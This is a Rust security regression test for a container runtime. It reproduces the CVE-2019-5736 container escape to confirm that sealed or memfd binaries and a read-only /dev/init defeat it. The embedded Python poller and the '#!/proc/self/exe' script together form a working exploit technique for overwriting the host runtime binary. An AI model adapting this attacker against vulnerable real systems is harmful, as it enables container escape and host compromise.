//! CVE-2019-5736, written as the attack (run as root). A process inside a container watches
//! `/proc/*/exe` for processes whose binary is not one of the container's own files and tries
//! to open that binary for writing: straight through `/proc/<pid>/exe` (`O_WRONLY`), and by
//! keeping an `O_PATH` handle and reopening it through `/proc/self/fd/N` each round, which
//! succeeds as soon as no process executes the file any more. Meanwhile the host does what
//! hands it the runtime's binary: `docker exec` of a script whose interpreter line is
//! `#!/proc/self/exe` (the kernel then executes whatever the exec'ing process runs), a
//! container whose entrypoint is such a script, an upgrade that puts a new inode in place of
//! the binary, a killed monitor.
//!
//! The attacker must never write a host binary, and no process the container can see may be
//! the host's dokles binary at all: the monitor and `docker exec` run from a sealed view of it
//! (`runtime::exe_seal`). Each test also checks the attacker did get a handle on the process
//! the script became, so the race was really run.
//!
//! Every test runs its own copy of the dokles binary (to replace it) on its own state root
//! (see `common_ctr`, here on /dev/shm), with a python image holding the script at `/evil`.

mod common_ctr;

use std::fs;
use std::io::Write;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use common_ctr::{alive, monitor_pid, wait_for, Dokles};
use tempfile::TempDir;

/// The attacker, in python. It reports to `/tmp/report` in its container: `handle PID ARGV0
/// DEV INO TARGET` for each foreign binary it holds, `wrote PID HOW` / `opened PID HOW ERRNO`
/// the first time a write (or only an open for writing) succeeds, and `checked TOKEN
/// PID:OUTCOME…` when the host puts TOKEN in `/tmp/check`: the outcome of the last reopen
/// of every handle held.
const POLLER: &str = r#"
import errno, os, time

root_dev = os.stat("/").st_dev
me = os.getpid()
report = open("/tmp/report", "a", buffering=1)
said = set()

def say(*words):
    report.write(" ".join(str(w) for w in words) + "\n")

def say_once(*words):
    if words not in said:
        said.add(words)
        say(*words)

def try_write(path, pid, how):
    """Open path for writing; write the ELF magic's first byte over itself."""
    try:
        fd = os.open(path, os.O_WRONLY)
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    try:
        os.pwrite(fd, b"\x7f", 0)
        say_once("wrote", pid, how)
        return "wrote"
    except OSError as e:
        say_once("opened", pid, how, errno.errorcode.get(e.errno, str(e.errno)))
        return "opened"
    finally:
        os.close(fd)

held = {}
looked = set()  # (pid, argv0): a process that executes something new is looked at again
say("ready")
while True:
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        pid = int(name)
        exe = "/proc/%d/exe" % pid
        try:
            argv0 = open("/proc/%d/cmdline" % pid, "rb").read().split(b"\0")[0]
            argv0 = argv0.decode(errors="replace")
            if (pid, argv0) in looked:
                continue
            fd = os.open(exe, os.O_PATH)
            target = os.readlink(exe)
        except OSError:
            continue  # gone, or not ours to look at yet (non-dumpable): next round
        looked.add((pid, argv0))
        st = os.fstat(fd)
        if st.st_dev == root_dev:
            os.close(fd)  # one of the container's own files
            continue
        say("handle", pid, argv0, st.st_dev, st.st_ino, target)
        held[(pid, argv0)] = fd
    last = {}
    for (pid, argv0), fd in held.items():
        try_write("/proc/%d/exe" % pid, pid, "exe")
        last[pid] = try_write("/proc/self/fd/%d" % fd, pid, "reopened")
    try:
        token = open("/tmp/check").read().strip()
        os.remove("/tmp/check")
        say("checked", token, *("%d:%s" % kv for kv in sorted(last.items())))
    except FileNotFoundError:
        pass
    time.sleep(0.002)
"#;

/// What the kernel runs for this script is `/proc/self/exe` of the process executing it:
/// for a process forked from dokles that has not yet left its binary, dokles itself.
/// `__hold-pty` makes that dokles read its stdin until it closes, so it lives as long as the
/// test wants.
const EVIL: &str = r"#!/proc/self/exe __hold-pty\n";

/// The image every attack runs in: python with `/evil`.
const ATTACK_IMAGE: &str = "attack:test";

/// A host with its own copy of the dokles binary, which the test may replace.
struct Host {
    // Dropped first: removing its containers needs the binary.
    dokles: Dokles,
    bin: TempDir,
}

impl Host {
    /// A fresh copy of dokles and a state root with the attack image; `env` goes into every
    /// command's environment.
    fn new(env: &[(&str, &str)]) -> Self {
        let bin = TempDir::with_prefix("dokles-bin-").expect("binary temp dir");
        fs::copy(env!("CARGO_BIN_EXE_dokles"), bin.path().join("dokles")).expect("copy dokles");
        // The state root on a tmpfs: python's first container unpacks it in well under a
        // second there, against up to 20 s on ext4 right after other tests deleted files.
        let mut dokles = Dokles::with_binary_in(Path::new("/dev/shm"), &bin.path().join("dokles"));
        for (key, value) in env {
            dokles.set_env(key, value);
        }
        dokles.ok(&["pull", "-q", "python"]);
        dokles.ok(&[
            "run",
            "--name",
            "maker",
            "python",
            "sh",
            "-c",
            &format!("printf '{EVIL}' > /evil && chmod 755 /evil"),
        ]);
        dokles.ok(&["commit", "maker", ATTACK_IMAGE]);
        dokles.ok(&["rm", "maker"]);
        Self { dokles, bin }
    }

    fn binary(&self) -> PathBuf {
        self.bin.path().join("dokles")
    }

    /// Install a new inode at the binary's path (as an upgrade does), keeping the old one
    /// reachable at `keep_old_as`; returns both inodes.
    fn upgrade_binary(&self, keep_old_as: &str) -> [Inode; 2] {
        let path = self.binary();
        let old = Inode::of(&path);
        fs::hard_link(&path, self.bin.path().join(keep_old_as)).expect("keep the old binary");
        let staged = self.bin.path().join("dokles.new");
        fs::copy(&path, &staged).expect("copy the new binary");
        fs::rename(&staged, &path).expect("install the new binary");
        let new = Inode::of(&path);
        assert_ne!(old, new, "the upgrade installs a new inode");
        [old, new]
    }

    /// Start the attacker as the main process of a new container `name`.
    fn run_poller(&self, name: &str, extra: &[&str]) -> Poller {
        let mut args = vec!["run", "-d", "--name", name];
        args.extend_from_slice(extra);
        args.extend([ATTACK_IMAGE, "python3", "-c", POLLER]);
        self.dokles.ok(&args);
        Poller::in_container(&self.dokles, name)
    }

    /// `docker exec -i NAME /evil` run by `exe`: once the attacker holds a handle on the
    /// process the script became, end it, wait for the command, and have the attacker try
    /// once more now that nothing executes that binary. Returns the handle.
    fn exec_evil(&self, exe: &Path, name: &str, poller: &Poller) -> Handle {
        let seen = poller.handles().len();
        let mut exec = self
            .dokles
            .command_with(exe, &["exec", "-i", name, "/evil"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn docker exec");
        let mut handle = None;
        poller.wait(
            "the attacker to hold the exec'd process's binary",
            |poller| {
                handle = poller
                    .handles()
                    .into_iter()
                    .skip(seen)
                    .find(|h| h.argv0 == "/proc/self/exe");
                handle.is_some()
            },
        );
        // Closing its stdin ends `__hold-pty`, and with it the exec.
        drop(exec.stdin.take());
        let out = exec.wait_with_output().expect("wait for docker exec");
        assert!(
            out.status.success(),
            "docker exec /evil: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        poller.check();
        handle.expect("found above")
    }

    /// Kill the monitor of container `name`, as an OOM kill or an impatient admin would.
    fn kill_monitor(&self, name: &str) {
        let id = self.dokles.inspect(name, "{{.Id}}");
        let monitor = monitor_pid(&id).expect("the container's monitor");
        nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(monitor),
            nix::sys::signal::Signal::SIGKILL,
        )
        .expect("kill the monitor");
        wait_for("the monitor to die", || !alive(monitor));
    }
}

/// A file's identity as `stat` gives it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Inode {
    dev: u64,
    ino: u64,
}

impl Inode {
    fn of(path: &Path) -> Self {
        let m = fs::metadata(path).unwrap_or_else(|e| panic!("stat {}: {e}", path.display()));
        Self {
            dev: m.dev(),
            ino: m.ino(),
        }
    }
}

/// A binary the attacker holds an `O_PATH` handle on.
#[derive(Debug, Clone)]
struct Handle {
    argv0: String,
    inode: Inode,
    /// Where `/proc/<pid>/exe` pointed, as the container saw it.
    target: String,
}

/// The attacker in a container, seen from the host through the container's root.
struct Poller {
    root: PathBuf,
    checks: std::cell::Cell<u32>,
}

impl Poller {
    /// The attacker running in container `name` (started, or about to start).
    fn in_container(d: &Dokles, name: &str) -> Self {
        let pid = d.inspect(name, "{{.State.Pid}}");
        let poller = Self {
            root: PathBuf::from(format!("/proc/{pid}/root")),
            checks: std::cell::Cell::new(0),
        };
        poller.wait("the attacker to start", |p| {
            p.lines().iter().any(|l| l == "ready")
        });
        poller
    }

    fn lines(&self) -> Vec<String> {
        fs::read_to_string(self.root.join("tmp/report"))
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }

    fn report(&self) -> String {
        self.lines().join("\n")
    }

    /// Every handle taken so far, in order.
    fn handles(&self) -> Vec<Handle> {
        self.lines()
            .iter()
            .filter_map(|l| {
                let rest = l.strip_prefix("handle ")?;
                // PID ARGV0 DEV INO TARGET (the target may contain spaces: "(deleted)").
                let f: Vec<&str> = rest.splitn(5, ' ').collect();
                Some(Handle {
                    argv0: f.get(1)?.to_string(),
                    inode: Inode {
                        dev: f.get(2)?.parse().ok()?,
                        ino: f.get(3)?.parse().ok()?,
                    },
                    target: f.get(4)?.to_string(),
                })
            })
            .collect()
    }

    /// Every write the attacker achieved. (Opening a sealed memfd for writing succeeds once
    /// nothing executes it; every write through it fails: `opened … EPERM`.)
    fn writes(&self) -> Vec<String> {
        self.lines()
            .into_iter()
            .filter(|l| l.starts_with("wrote "))
            .collect()
    }

    /// Poll `cond` as [`wait_for`] does; on a timeout, the panic shows the report.
    fn wait(&self, what: &str, mut cond: impl FnMut(&Self) -> bool) {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while !cond(self) {
            assert!(
                std::time::Instant::now() < deadline,
                "timed out waiting for {what}; the attacker's report:\n{}",
                self.report()
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }

    /// Have the attacker try every handle once more, and wait until it has.
    fn check(&self) {
        let token = self.checks.get() + 1;
        self.checks.set(token);
        let staged = self.root.join("tmp/check.new");
        let mut f = fs::File::create(&staged).expect("write the check request");
        writeln!(f, "{token}").expect("write the check request");
        fs::rename(&staged, self.root.join("tmp/check")).expect("place the check request");
        let done = format!("checked {token}");
        self.wait("the attacker's last try", |p| {
            p.lines().iter().any(|l| l.starts_with(&done))
        });
    }

    /// The attacker wrote nothing and held none of `host`'s inodes.
    fn assert_defeated(&self, host: &[Inode]) {
        let writes = self.writes();
        assert!(
            writes.is_empty(),
            "the container opened a binary for writing: {writes:?}\nreport:\n{}",
            self.report()
        );
        for h in self.handles() {
            assert!(
                !host.contains(&h.inode),
                "the container holds the host's binary itself: {h:?}\nreport:\n{}",
                self.report()
            );
        }
    }
}

#[test]
fn exec_of_a_proc_self_exe_script_never_hands_the_container_the_host_binary() {
    let host = Host::new(&[]);
    let original = Inode::of(&host.binary());
    // CAP_SYS_PTRACE also lets the attacker look at exec's setup processes, which
    // non-dumpability alone would hide.
    let poller = host.run_poller("victim", &["--cap-add", "SYS_PTRACE"]);

    // An upgrade installs a new binary; the monitor still runs the old one, and the new one
    // runs only for the exec.
    let [old, new] = host.upgrade_binary("dokles.old");
    assert_eq!(old, original);
    let after_upgrade = host.exec_evil(&host.binary(), "victim", &poller);

    // The old binary, which only the monitor still ran, once the monitor is killed.
    host.kill_monitor("victim");
    let old_binary = host.bin.path().join("dokles.old");
    let after_kill = host.exec_evil(&old_binary, "victim", &poller);

    poller.assert_defeated(&[old, new]);
    for (handle, path) in [(&after_upgrade, host.binary()), (&after_kill, old_binary)] {
        assert_ne!(
            handle.target,
            path.display().to_string(),
            "the container sees the host's binary by its path: {handle:?}"
        );
    }
}

#[test]
fn an_entrypoint_of_proc_self_exe_is_not_the_host_binary() {
    let host = Host::new(&[]);
    let binary = Inode::of(&host.binary());
    // The container's init executes the script itself: /proc/self/exe is then the binary
    // the init was forked from. `-i` keeps its stdin (and so the init) open.
    host.dokles.ok(&[
        "run",
        "-d",
        "-i",
        "--name",
        "entry",
        "--entrypoint",
        "/evil",
        ATTACK_IMAGE,
    ]);
    host.dokles
        .ok(&["exec", "-d", "entry", "python3", "-c", POLLER]);
    let poller = Poller::in_container(&host.dokles, "entry");
    poller.wait("the attacker to hold the init's binary", |p| {
        p.handles().iter().any(|h| h.argv0 == "/proc/self/exe")
    });
    poller.check();
    poller.assert_defeated(&[binary]);
}

#[test]
fn the_memfd_copy_holds_against_the_same_attack() {
    let host = Host::new(&[("DOKLES_EXE_SEAL", "memfd")]);
    let binary = Inode::of(&host.binary());
    let poller = host.run_poller("victim", &[]);
    host.kill_monitor("victim");
    let handle = host.exec_evil(&host.binary(), "victim", &poller);
    poller.assert_defeated(&[binary]);
    assert!(
        handle.target.starts_with("/memfd:"),
        "the exec ran from a memfd: {handle:?}"
    );
}

#[test]
fn the_init_bound_at_dev_init_cannot_be_written_from_the_container() {
    let tini = ["/usr/bin/docker-init", "/usr/bin/tini-static"]
        .iter()
        .map(Path::new)
        .find(|p| p.is_file())
        .expect("this test needs tini (Debian's tini or docker.io package)");
    let host = Host::new(&[]);
    // `--init`'s tini is the host's own file, bound at /dev/init: the attacker can hold it.
    let poller = host.run_poller("tini", &["--init"]);
    let tini = Inode::of(tini);
    poller.wait("the attacker to hold tini", |p| {
        p.handles().iter().any(|h| h.inode == tini)
    });
    // tini is the container's PID 1, so it runs as long as any process of the container
    // lives (ETXTBSY)...
    host.kill_monitor("tini");
    poller.check();
    poller.assert_defeated(&[Inode::of(&host.binary())]);
    // ...and the handle leads through a read-only bind, which no reopening can write
    // (EROFS), should a handle ever outlive the container.
    let init = host.dokles.inspect("tini", "{{.State.Pid}}");
    let mounts = fs::read_to_string(format!("/proc/{init}/mountinfo")).expect("mountinfo");
    let options = mounts
        .lines()
        .map(|l| l.split(' ').collect::<Vec<_>>())
        .find(|f| f.get(4) == Some(&"/dev/init"))
        .and_then(|f| f.get(5).map(|o| o.to_string()))
        .expect("/dev/init is a mount point in the container");
    assert!(
        options.split(',').any(|o| o == "ro"),
        "/dev/init is bound read-only: {options}"
    );
}
